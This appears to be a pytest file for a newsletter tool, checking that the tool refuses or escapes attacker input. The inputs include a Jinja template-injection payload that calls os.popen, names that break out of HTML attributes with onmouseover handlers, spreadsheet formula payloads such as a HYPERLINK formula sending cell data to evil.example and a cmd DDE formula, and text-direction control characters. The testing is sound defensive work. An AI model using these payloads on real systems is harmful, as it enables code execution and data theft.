"""Hardening of content (issue 11, points 6 to 9), as an attacker would try it and as a user
sees the outcome: campaign templates that reach for Python, a name that breaks out of an
HTML attribute, a spreadsheet formula in a CSV, control and text-direction characters in a
name. Through the real command, a real SMTP server, the real web app.
"""

from __future__ import annotations

import csv
import html.parser
import io
import json
import re
import textwrap
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from cli_helpers import MONDAY_9, Tidings
from conftest import received
from sqlalchemy import func, select

from tidings.db.models import SignUpRequest, Subscriber
from tidings.errors import InvalidInput
from tidings.runtime import Runtime
from tidings.subscribers.apikeys import create_api_key
from tidings.subscribers.lifecycle import Consent, add_subscriber
from tidings.subscribers.tokens import make_token
from tidings.subscribers.validation import clean_name
from tidings.web import create_app

CAMPAIGN_TOML = """\
slug = "safe"
name = "Safe series"

[footer]
crisis = "If you are struggling or in crisis, call or text 988."
crisis_line = "Help is available 24/7: call or text 988."
disclaimer = "Educational information, not medical advice."
risk = "Ketamine treatment has risks and needs medical screening and monitoring."
reason = "You signed up at {{ sender.organization }}."
"""
STEP = """\
+++
subject = "{subject}"
preheader = "{preheader}"
+++
## Hello

{body}
"""
# The attack of the issue, with a command whose effect a test can see.
EXPLOIT = (
    "{{{{ sender.__class__.__init__.__globals__['__builtins__']['__import__']('os')"
    ".popen('touch {marker}').read() }}}}"
)


def campaign(folder: Path, body: str = "Hello.", toml: str = CAMPAIGN_TOML, **front: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "campaign.toml").write_text(toml, encoding="utf-8")
    fields = {"subject": "A calm subject", "preheader": "A calm preheader.", **front}
    (folder / "01-hello.md").write_text(STEP.format(body=body, **fields), encoding="utf-8")
    return folder


# ----------------------------------------------------------------------------- 6. sandbox


@pytest.mark.parametrize("place", ["body", "subject", "preheader", "footer"])
def test_a_template_that_reaches_for_python_is_refused_at_load_and_runs_nothing(
    tidings_sqlite, tmp_path, place
):
    marker = tmp_path / "it-ran"
    exploit = EXPLOIT.format(marker=marker)
    front: dict[str, str] = {}
    toml, body = CAMPAIGN_TOML, "Hello."
    if place == "body":
        body = f"Hello.\n\n{exploit}"
    elif place == "footer":
        toml = CAMPAIGN_TOML.replace("Educational information", exploit)
    else:
        front[place] = exploit
    folder = campaign(tmp_path / "evil", body=body, toml=toml, **front)
    line = {"body": 9, "subject": 2, "preheader": 3, "footer": 7}[place]
    file = "campaign.toml" if place == "footer" else "01-hello.md"

    output = tidings_sqlite.fails("campaigns", "load", str(folder))
    assert f"{file}:{line}: '__builtins__', '__class__', '__globals__', '__import__', " in output
    assert "start with an underscore: campaign templates may not reach Python's internals" in (
        output
    )
    assert not marker.exists(), "the template ran a command"
    assert tidings_sqlite.counts()["campaigns"] == 0


def test_the_sandbox_holds_where_no_underscore_is_written_out(tidings_sqlite, tmp_path):
    # The name is put together at render time: only the sandbox can see it.
    folder = campaign(tmp_path / "evil", body='Hello {{ sender["__cl" ~ "ass__"] }}.')
    output = tidings_sqlite.fails("campaigns", "load", str(folder))
    assert "01-hello.md:7: access to attribute '__class__'" in output and "unsafe" in output
    assert tidings_sqlite.counts()["campaigns"] == 0


def test_a_template_cannot_change_the_values_it_is_given(tidings_sqlite, tmp_path):
    folder = campaign(tmp_path / "evil", body='{{ campaign.update({"name": "x"}) }}Hello.')
    output = tidings_sqlite.fails("campaigns", "load", str(folder))
    assert "01-hello.md:7: " in output and "unsafe" in output


def test_the_lint_names_the_underscored_attribute_with_its_file_and_line(tidings_sqlite, tmp_path):
    marker = tmp_path / "it-ran"
    folder = campaign(tmp_path / "evil", body=f"Hello.\n\n{EXPLOIT.format(marker=marker)}")
    output = tidings_sqlite.fails("campaigns", "lint", str(folder))
    assert "01-hello.md:9: error [template-private]: '__builtins__', '__class__', " in output
    assert "[invalid]" not in output  # said once, by its own rule
    assert not marker.exists()


def test_import_text_writes_the_clients_braces_as_typed(tidings_sqlite, tmp_path):
    marker = tmp_path / "it-ran"
    payload = f"{{{{ cycler.__init__.__globals__.os.popen('touch {marker}').read() }}}}"
    source = tmp_path / "copy.txt"
    source.write_text(
        "Write {{ your name }} on the card, or {% anything %}; {# this too #}.\n"
        "Curly Braces\n"
        f"Our form says {{{{ first_name }}}}, and {payload}.\n",
        encoding="utf-8",
    )
    out = tmp_path / "imported"
    tidings_sqlite.ok(
        "campaigns", "import-text", str(source), "--slug", "braces", "--out", str(out)
    )
    tidings_sqlite.ok("campaigns", "load", str(out))
    assert not marker.exists()

    welcome = tidings_sqlite.ok("campaigns", "preview", "braces", "--format", "text").stdout
    assert "Write {{ your name }} on the card, or {% anything %}; {# this too #}." in welcome
    step = tidings_sqlite.ok(
        "campaigns", "preview", "braces", "--step", "2", "--format", "text"
    ).stdout
    # (Markdown still reads the copy: __init__ comes out in bold, quotes curled.)
    # The text part is wrapped at 72 characters: compare with spaces folded.
    step = " ".join(step.split())
    assert "Our form says {{ first_name }}, and {{ cycler." in step and ".read() }}." in step


# ----------------------------------------------------------------------------- 7. attributes

ATTRIBUTE_BODY = textwrap.dedent("""\
    Hello <span class="who" title='{{ subscriber.name }}'>you</span> and
    <span class="dear" title='Dear "{{ subscriber.first_name }}"'>dear</span>.
    """)


class Attributes(html.parser.HTMLParser):
    """Every element's attributes, as a browser reads them."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


@pytest.mark.parametrize(
    "name", ["x' onmouseover='alert(1)", 'x" onmouseover="alert(1)', 'O\'Brien "Nan" <b>&']
)
def test_a_name_cannot_leave_a_single_quoted_attribute_of_the_sent_email(
    tidings, smtp_server, tmp_path, name
):
    tidings.ok("campaigns", "load", str(campaign(tmp_path / "safe", body=ATTRIBUTE_BODY)))
    add(tidings, "ann@example.org", name)
    tidings.at(MONDAY_9)
    assert "sent 1" in tidings.ok("send-due").stdout

    (message,) = received(smtp_server)
    parser = Attributes()
    parser.feed(message.get_body(("html",)).get_content())
    spans = {a.get("class"): a for tag, a in parser.elements if tag == "span"}
    assert spans["who"]["title"] == name
    assert spans["dear"]["title"] == f'Dear "{name.split(" ")[0]}"'
    assert not [a for _, a in parser.elements if "onmouseover" in a]


# ----------------------------------------------------------------------------- 8. CSV

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)"]


def add(t: Tidings, email: str, name: str) -> None:
    t.ok("subscribers", "add", email, f"--name={name}", "--confirmed", "--evidence", "paper form")


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_export_and_list_never_write_a_cell_that_runs_as_a_formula(tidings, tmp_path):
    for i, formula in enumerate(FORMULAS):
        add(tidings, f"r{i}@example.org", formula)
    add(tidings, "plain@example.org", "Ann Lee")
    out = tmp_path / "export.csv"
    tidings.ok("subscribers", "export", "--out", str(out))
    for text in (
        out.read_text(encoding="utf-8"),
        tidings.ok("subscribers", "export").stdout,
        tidings.ok("subscribers", "list", "--csv").stdout,
    ):
        names = {row["email"]: row["name"] for row in csv_rows(text)}
        assert names == {
            **{f"r{i}@example.org": "'" + f for i, f in enumerate(FORMULAS)},
            "plain@example.org": "Ann Lee",
        }
    show = tidings.ok("subscribers", "show", "r0@example.org", "--csv").stdout
    assert ["name", "'" + FORMULAS[0]] in list(csv.reader(io.StringIO(show)))


def test_the_reject_file_never_holds_a_cell_that_runs_as_a_formula(tidings, tmp_path):
    path = tmp_path / "list.csv"
    path.write_text(
        'email,name,timezone\n=cmd|"/C calc"!A0,Ann,UTC\n@SUM(1+1),Bob,UTC\n'
        "ok@example.org,Cy,UTC\n",
        encoding="utf-8",
    )
    rejects = tmp_path / "rejects.csv"
    imported = ("subscribers", "import", str(path), "--evidence", "x", "--rejects", str(rejects))
    assert "rejected rows written" in tidings.fails(*imported, code=3)  # 3: some rows rejected
    rows = csv_rows(rejects.read_text(encoding="utf-8"))
    assert [row["data"][:2] for row in rows] == ["'=", "'@"]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


# ----------------------------------------------------------------------------- 9. names

REFUSED = [
    "\x00",
    "\x07",
    "\x1b",
    "\x1f",
    "\x7f",
    "\x85",
    "\x9b",
    "\x9f",
    "\u202a",
    "\u202e",
    "\u2066",
    "\u2069",
]
ACCEPTED = ["\xa0", "\u00e9", "\u200d", "\u2065", "\u206a", "\u202f", "\u05d0"]  # just outside


@pytest.mark.parametrize("char", REFUSED, ids=[f"U+{ord(c):04X}" for c in REFUSED])
def test_a_name_with_a_control_or_direction_character_is_refused(char):
    with pytest.raises(InvalidInput) as caught:
        clean_name(f"Ann{char}gro.live")
    assert f"U+{ord(char):04X}" in str(caught.value)


@pytest.mark.parametrize("char", ACCEPTED, ids=[f"U+{ord(c):04X}" for c in ACCEPTED])
def test_characters_just_outside_those_ranges_are_kept(char):
    assert clean_name(f"Ann{char}Lee") == " ".join(f"Ann{char}Lee".split())


BIDI_NAME = "Ann\u202egro.live"  # shows as "Annevil.org"


def test_the_cli_refuses_such_a_name_when_adding_and_updating(tidings):
    output = tidings.fails("subscribers", "add", "ann@example.org", "--name", BIDI_NAME)
    assert "name: must be one line of plain text" in output and "U+202E" in output
    assert tidings.counts()["subscribers"] == 0
    add(tidings, "ann@example.org", "Ann")
    output = tidings.fails("subscribers", "update", "ann@example.org", "--name", "Ann\x1b[2J")
    assert "--name: must be one line of plain text" in output and "U+001B" in output
    assert tidings.json("subscribers", "show", "ann@example.org")["name"] == "Ann"


def test_the_import_rejects_the_row_with_such_a_name(tidings, tmp_path):
    path = tmp_path / "list.csv"
    path.write_text(f"email,name\nann@example.org,{BIDI_NAME}\nbob@example.org,Bob\n")
    rejects = tmp_path / "rejects.csv"
    imported = ("subscribers", "import", str(path), "--evidence", "x", "--rejects", str(rejects))
    assert "rejected rows written" in tidings.fails(*imported, code=3)  # 3: some rows rejected
    (row,) = csv_rows(rejects.read_text(encoding="utf-8"))
    assert row["line"] == "2" and "U+202E" in row["reason"]
    assert [r["email"] for r in tidings.json("subscribers", "list")] == ["bob@example.org"]


def hidden_fields(client: Any, page: str) -> dict[str, str]:
    """The hidden fields (CSRF token, consent version) of a page's form, as a browser sends."""
    text = client.get(page).get_data(as_text=True)
    return dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)">', text))


def stored_sign_ups(runtime: Runtime) -> int:
    with runtime.sessions.begin() as session:
        return sum(
            session.scalar(select(func.count()).select_from(model)) or 0
            for model in (Subscriber, SignUpRequest)
        )


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\x85", "\x1b"])
def test_the_sign_up_form_and_the_api_refuse_such_a_name(runtime, char):
    app = create_app(runtime)
    client = app.test_client()
    fields = hidden_fields(client, "/subscribe")
    form = client.post(
        "/subscribe",
        data={**fields, "email": "ann@example.org", "name": f"Ann{char}x", "consent": "yes"},
    )
    assert form.status_code == 422
    assert "plain text" in form.get_data(as_text=True)

    with runtime.sessions.begin() as session:
        _, key = create_api_key(session, "site", runtime.clock.now())
    api = client.post(
        "/api/subscribers",
        json={"email": "ann@example.org", "name": f"Ann{char}x", "consent_text": "Yes please"},
        headers={"Authorization": f"Bearer {key}"},
    )
    assert api.status_code == 422
    assert f"U+{ord(char):04X}" in api.get_json()["errors"]["name"]
    assert stored_sign_ups(runtime) == 0


@pytest.mark.parametrize("char", ["\u202e", "\x9b"])
def test_the_preferences_page_refuses_such_a_name(runtime, char):
    with runtime.sessions.begin() as session:
        key = add_subscriber(
            session,
            runtime.clock.now(),
            "bob@example.org",
            Consent("cli", "test"),
            name="Bob",
            confirmed=True,
        ).key
    client = create_app(runtime).test_client()
    path = f"/preferences/{make_token(runtime.secret(), 'preferences', key)}"
    data = {
        **hidden_fields(client, path),
        "action": "save",
        "name": f"Bob{char}",
        "timezone": "UTC",
    }
    response = client.post(path, data=data)
    assert response.status_code == 422 and "plain text" in response.get_data(as_text=True)
    with runtime.sessions.begin() as session:
        assert session.scalars(select(Subscriber)).one().name == "Bob"


UNSAFE_NAME = "Ann\u202egro.live\x1b[2J\x85\u2066"


def stored_unsafe_name(t: Tidings) -> None:
    """A name stored before names were checked (written as an older tidings would have)."""
    add(t, "ann@example.org", "Ann")
    with t.session() as session:
        session.scalars(select(Subscriber)).one().name = UNSAFE_NAME


def test_the_cli_shows_a_stored_control_character_escaped(tidings):
    stored_unsafe_name(tidings)
    outputs = {
        "list": tidings.ok("subscribers", "list").stdout,
        "show": tidings.ok("subscribers", "show", "ann@example.org").stdout,
        "list-json": tidings.ok("subscribers", "list", "--json").stdout,
        "show-json": tidings.ok("subscribers", "show", "ann@example.org", "--json").stdout,
        "csv": tidings.ok("subscribers", "list", "--csv").stdout,
        "export": tidings.ok("subscribers", "export").stdout,
        "export-data": tidings.ok("subscribers", "export-data", "ann@example.org", "--yes").stdout,
    }
    for what, text in outputs.items():
        for char in "\u202e\x1b\x85\u2066":
            assert char not in text, (what, char)
    shown = "Ann\\u202egro.live\\x1b[2J\\x85\\u2066"
    for what in ("list", "show", "csv", "export"):
        assert shown in outputs[what], what
    # JSON escapes them its own way: a program reading it gets the value as stored.
    assert json.loads(outputs["list-json"])[0]["name"] == UNSAFE_NAME
    assert json.loads(outputs["show-json"])["name"] == UNSAFE_NAME
    assert json.loads(outputs["export-data"])["profile"]["name"] == UNSAFE_NAME


def test_what_servers_said_is_shown_escaped_by_status(tidings):
    """A mail server's reply is text from outside: `tidings status` prints it escaped."""
    from tidings.db.models import SmtpServerState
    from tidings.runtime import Runtime

    with Runtime.open(tidings.settings()) as runtime:
        [lane] = runtime.lanes()
        with runtime.sessions.begin() as session:
            session.add(
                SmtpServerState(
                    name=lane.name,
                    last_error="421 go away\x1b[2J\u202etxt.exe",
                    down_until=runtime.clock.now() + timedelta(minutes=5),  # shown while down
                    updated_at=runtime.clock.now(),
                )
            )
    shown = tidings.ok("status").stdout
    assert "\x1b" not in shown and "\u202e" not in shown
    assert "421 go away\\x1b[2J\\u202etxt.exe" in shown
